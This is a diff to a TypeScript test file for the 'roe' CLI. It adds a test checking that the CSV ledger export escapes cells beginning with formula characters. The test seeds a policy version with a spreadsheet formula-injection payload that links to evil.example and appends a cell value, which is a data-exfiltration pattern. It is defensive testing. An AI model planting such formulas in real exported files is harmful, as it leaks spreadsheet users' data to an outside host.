@@ -3,6 +3,7 @@ import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, 
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import Database from 'better-sqlite3';
+import { parse } from 'csv-parse/sync';
 import { afterAll, describe, expect, it } from 'vitest';
 import { EXAMPLE_POLICY_PATH, ROOT, policyTextWith } from '../support/builders.js';
 import { openArbitratedCase } from '../support/cases.js';
@@ -97,6 +98,24 @@ describe('roe CLI', () => {
     const r = roe(['ledger', 'verify'], db);
     expect(r.code).toBe(1);
     expect(r.err).toContain('ledger BROKEN at entry 4');
+  });
+
+  it('ledger export --format csv never starts a cell with a formula (= + - @), which a spreadsheet would run', () => {
+    const db = join(dir, 'formula.db');
+    const policy = join(dir, 'formula.yaml');
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    writeFileSync(policy, policyTextWith([['version: "2026.1"', `version: '${formula}'`]]));
+    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db, { ROE_POLICY: policy });
+    roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db, { ROE_POLICY: policy });
+    expect(roe(['import', 'claims', join(ROOT, 'examples/claims.csv')], db, { ROE_POLICY: policy }).code).toBe(0);
+    const out = roe(['ledger', 'export', '--format', 'csv'], db, { ROE_POLICY: policy }).out;
+    const rows = parse(out, { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r.kind)).toContain('claim.imported');
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
+    // the value is kept, only neutralised: the version reads as written after the quote mark
+    expect(rows.find((r) => r.kind === 'claim.imported')!.policyVersion).toBe(`'${formula}`);
+    // JSON is for programs: exactly as stored
+    expect((JSON.parse(roe(['ledger', 'export', '--format', 'json'], db, { ROE_POLICY: policy }).out) as { policyVersion: string | null }[]).at(-1)!.policyVersion).toBe(formula);
   });
 
   it('stats prints a table and JSON', () => {
